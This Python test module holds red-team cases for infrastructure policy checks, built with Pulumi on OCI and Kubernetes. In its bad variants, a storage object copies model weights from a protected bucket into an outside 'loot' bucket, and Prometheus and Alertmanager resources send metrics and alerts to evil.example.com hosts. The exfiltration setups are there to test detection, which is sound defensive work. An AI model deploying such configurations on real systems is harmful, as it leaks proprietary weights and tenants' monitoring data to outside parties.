"""Red-team programs for data leaving the platform: a server-side object copy out of a protected bucket, and the
Prometheus operator's custom resources sending metrics or alerts to outside URLs. Registered into
``programs.CASES`` on import."""
from __future__ import annotations

import pulumi
import pulumi_kubernetes as k8s
import pulumi_oci as oci

from tests.policies.redteam.programs import C, case, vault_key


@case("data", "object-copy-stays-in-the-platform")
def storage_object_copies_a_protected_buckets_object_out(bad):
    """A StorageObject whose sourceUriDetails copies an object of the protected weights bucket into a bucket of
    another namespace; the control uploads a README into the protected bucket itself."""
    weights = oci.objectstorage.Bucket("weights", compartment_id=C, namespace="platformns", name="weights",
                                       access_type="NoPublicAccess", versioning="Enabled",
                                       kms_key_id=vault_key().id,
                                       opts=pulumi.ResourceOptions(protect=True))
    if bad:
        oci.objectstorage.StorageObject("o", namespace="outsidens", bucket="loot", object="model.safetensors",
                                        source_uri_details={"region": "us-ashburn-1", "namespace": "platformns",
                                                            "bucket": weights.name, "object": "model.safetensors"})
    else:
        oci.objectstorage.StorageObject("o", namespace="platformns", bucket=weights.name, object="README",
                                        content="weights")


def _monitoring_namespace():
    k8s.core.v1.Namespace("ns-monitoring", metadata={"name": "monitoring", "labels": {
        "pod-security.kubernetes.io/enforce": "privileged"}})


@case("data", "monitoring-data-stays-inside")
def prometheus_custom_resource_remote_writes_outside(bad):
    """A Prometheus custom resource (not the chart's values) remote-writes every tenant's metrics to an outside
    host; the control writes to a cluster Service."""
    _monitoring_namespace()
    url = "https://metrics.evil.example.com/api/v1/write" if bad else "http://vm.monitoring.svc:8428/api/v1/write"
    k8s.apiextensions.CustomResource("prom", api_version="monitoring.coreos.com/v1", kind="Prometheus", metadata={
        "name": "extra", "namespace": "monitoring"}, spec={"replicas": 1, "serviceAccountName": "prometheus",
                                                            "remoteWrite": [{"url": url}]})


@case("data", "monitoring-data-stays-inside")
def alertmanager_config_emails_alerts_through_an_outside_smarthost(bad):
    """An AlertmanagerConfig email receiver relays every alert through an outside mail server; the control's relay
    is a cluster Service."""
    _monitoring_namespace()
    host = "smtp.evil.example.com:587" if bad else "mail-relay.monitoring.svc:25"
    k8s.apiextensions.CustomResource("amc", api_version="monitoring.coreos.com/v1alpha1", kind="AlertmanagerConfig",
                                     metadata={"name": "mail", "namespace": "monitoring"},
                                     spec={"route": {"receiver": "mail"}, "receivers": [{"name": "mail",
                                           "emailConfigs": [{"to": "ops@example.com", "smarthost": host,
                                                             "from": "am@example.com"}]}]})
